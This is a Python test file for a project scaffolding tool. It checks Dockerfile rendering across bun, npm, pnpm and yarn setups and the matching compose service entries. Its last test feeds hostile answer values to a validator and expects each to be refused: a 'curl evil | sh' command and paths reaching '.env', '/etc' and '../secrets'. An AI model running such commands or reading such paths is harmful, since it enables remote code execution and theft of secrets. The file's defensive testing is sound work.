"""The service's Dockerfile per package manager, read against the project it is rendered into (no Docker
engine here): every COPY source exists once the printed install has run, the install is the project's own and
frozen, the build context sends what is copied, and compose gets a `ws` service exactly where it builds."""

import re

import pytest

from afc_realtime.features import docker, websocket
from afc_realtime.project import detect
from afc_realtime.render import templates_dir
from afc_realtime.tree import Tree
from tests.support import real_projects as shapes
from tests.support.projects import AFC_PROJECT

LOCKFILES = tuple(name for names in docker.LOCKS.values() for name in names)
COPY = re.compile(r"^COPY (?!--from)(?:--chown=\S+ )?(.+) (\S+)$", re.M)


def monorepo(lock, manager, extra=None):
    files = {k: v for k, v in AFC_PROJECT.items() if k != "bun.lock"}
    files["package.json"] = files["package.json"].replace('"bun@1.3.0"', f'"{manager}"')
    return {**files, lock: "lock\n", **(extra or {})}


def single(shape, lock, manager):
    files = {k: v for k, v in shape.items() if k not in ("package-lock.json", "pnpm-lock.yaml")}
    return {**files, lock: "lock\n", "compose.yml": "services:\n  db:\n    image: postgres:16\n"}


CASES = {
    "bun workspace": (AFC_PROJECT, "bun install --frozen-lockfile", "oven/bun:", None),
    "bun.lockb": (monorepo("bun.lockb", "bun@1.3.0"), "bun install --frozen-lockfile", "oven/bun:", None),
    "npm workspace": (
        monorepo("package-lock.json", "npm@10.9.0"),
        "npm ci --omit=dev --ignore-scripts --workspace=apps/ws",
        "node:22-slim",
        None,
    ),
    "pnpm workspace": (
        monorepo(
            "pnpm-lock.yaml",
            "pnpm@9.12.0",
            {
                "pnpm-workspace.yaml": 'packages:\n  - "apps/*"\n  - "packages/*"\n',
                ".npmrc": "auto-install-peers=true\n",
            },
        ),
        "corepack enable && pnpm install --frozen-lockfile --prod --ignore-scripts --filter ./apps/ws",
        "node:22-slim",
        None,
    ),
    "yarn 1 workspace": (
        monorepo("yarn.lock", "yarn@1.22.22"),
        "yarn install --frozen-lockfile --production",
        "node:22-slim",
        None,
    ),
    "yarn berry": (monorepo("yarn.lock", "yarn@4.5.0"), None, None, "yarn 2 or newer"),
    "npm, no lockfile": (monorepo("README.md", "npm@10.9.0"), None, None, "no package-lock.json at the root"),
    "single npm app": (
        single(shapes.SINGLE_NPM, "package-lock.json", "npm"),
        "cd realtime && npm ci --omit=dev",
        "node:22-slim",
        None,
    ),
    "single pnpm app": (
        single(shapes.SINGLE_PNPM, "pnpm-lock.yaml", "pnpm"),
        "cd realtime && corepack enable && pnpm install --frozen-lockfile --prod --ignore-scripts \\",
        "node:22-slim",
        None,
    ),
}


def rendered(project, layout):
    """The Dockerfile and its ignore file as the template renders them for `layout` (jinja alone: copier's
    render, which `add` runs, costs a second per case; `test_add_*` below go through it)."""
    import jinja2
    import yaml

    folder = templates_dir() / "ws"
    defaults = {
        k: v["default"]
        for k, v in next(yaml.safe_load_all((folder / "copier.yml").read_text())).items()  # the questions
        if not k.startswith("_")
    }
    answers = {**defaults, "package_name": "realtime-service", "service_dir": project.ws, **layout.answers()}
    env = jinja2.Environment(keep_trailing_newline=True, undefined=jinja2.StrictUndefined)
    render = lambda name: env.from_string((folder / "template" / name).read_text()).render(answers)  # noqa: E731
    return render("Dockerfile.jinja"), render("Dockerfile.dockerignore.jinja").splitlines()


@pytest.mark.parametrize("case", list(CASES))
def test_the_dockerfile_builds_with_the_projects_package_manager(case):
    files, install, image, unbuildable = CASES[case]
    tree = Tree.in_memory(files)
    project = detect(tree)
    layout = docker.layout(project, tree)
    if unbuildable:
        assert layout.reason and unbuildable in layout.reason
        return
    assert layout.reason is None
    dockerfile, ignore = rendered(project, layout)
    assert f"RUN {install}" in dockerfile and f"FROM {image}" in dockerfile
    # what afc renders into the service folder, and what the next steps' install makes beside a single app
    made = {f"{project.ws}/{name}" for name in ("package.json", "tsconfig.json", "src")}
    if project.single_app:
        made.add(f"{project.ws}/{docker.OWN_LOCK[project.package_manager]}")
    copied = [src for sources, _ in COPY.findall(dockerfile) for src in sources.split()]
    assert copied, dockerfile
    for source in copied:
        assert tree.exists(source) or source in made, source
        assert f"!{source}" in ignore, source  # the build context sends it
    lock = next(src for src in copied if src.endswith(LOCKFILES))
    lines = dockerfile.splitlines()
    copies_lock = next(n for n, line in enumerate(lines) if line.startswith("COPY ") and lock in line.split())
    assert copies_lock < next(n for n, line in enumerate(lines) if line.startswith("RUN "))  # then the install
    if not project.single_app and project.package_manager != "bun":  # every workspace's manifest: the lock matches
        assert {"apps/web/package.json", "packages/db/package.json"} <= set(copied)
    assert "src/index.ts" in dockerfile.rstrip().splitlines()[-1]


def test_add_gives_compose_a_service_only_where_the_dockerfile_builds():
    npm = Tree.in_memory(CASES["npm workspace"][0])
    websocket.plan_add(detect(npm), npm)
    assert "\n  ws:\n" in (npm.read_text("compose.dev.yml") or "").replace("    ws:", "  ws:")
    assert "npm ci --omit=dev" in (npm.read_text("apps/ws/Dockerfile") or "")
    answers = npm.read_text("apps/ws/.copier-answers.yml") or ""
    assert "docker: npm\n" in answers and "docker_copy: package.json package-lock.json apps/web/package.json" in answers
    berry = Tree.in_memory(CASES["yarn berry"][0])
    plan = websocket.plan_add(detect(berry), berry)
    assert berry.read_text("compose.dev.yml") == CASES["yarn berry"][0]["compose.dev.yml"]
    [note] = [n for n in plan.notes if "service added" in n.message]
    assert "yarn 2 or newer" in note.message and note.path == "apps/ws/Dockerfile"


def test_the_first_layout_renders_as_it_always_did():
    """bun with the root bun.lock records no Dockerfile answers: a service rendered before reads the same."""
    tree = Tree.in_memory(AFC_PROJECT)
    assert docker.layout(detect(tree), tree).answers() == {}
    websocket.plan_add(detect(tree), tree)
    answers = tree.read_text("apps/ws/.copier-answers.yml") or ""
    assert "docker" not in answers and "COPY package.json bun.lock ./" in (tree.read_text("apps/ws/Dockerfile") or "")


@pytest.mark.parametrize(
    ("key", "value", "refused"),
    [
        ("docker", "npm", False),
        ("docker", "curl evil | sh", True),
        ("docker_copy", "package.json package-lock.json apps/web/package.json realtime/bun.lock", False),
        ("docker_copy", "package.json ../secrets/package.json", True),
        ("docker_copy", "package.json .env", True),
        ("docker_copy", "package.json /etc/package.json", True),
    ],
)
def test_a_recorded_layout_is_checked_like_every_answer(key, value, refused):
    """The answers file is input: a Dockerfile layout afc never renders (a path out of the project, a file
    that is not a manifest, lockfile or setting) is refused before `remove` or `update` trusts it."""
    from afc_realtime.features import claims

    assert (claims._docker_problem(key, value) is not None) is refused
